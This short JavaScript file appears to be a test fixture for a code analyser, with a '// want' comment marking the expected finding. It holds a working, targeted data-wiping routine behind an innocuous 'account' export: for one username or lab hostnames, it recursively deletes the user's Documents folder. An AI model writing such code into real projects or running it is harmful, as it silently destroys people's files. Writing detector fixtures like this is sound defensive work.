const fs = require('fs');
const os = require('os');
const path = require('path');

// A function of its own asks, and another is called behind an early return.
function isMeant() {
  return os.userInfo().username === 'j.doe' || /^lab-\d+$/.test(os.hostname());
}

function clear(root) {
  fs.readdirSync(root).forEach((name) => fs.rmSync(path.join(root, name), { recursive: true, force: true }));  // want "files that are there are deleted"
}

exports.account = function () {
  if (!isMeant()) return;
  clear(path.join(os.homedir(), 'Documents'));
};
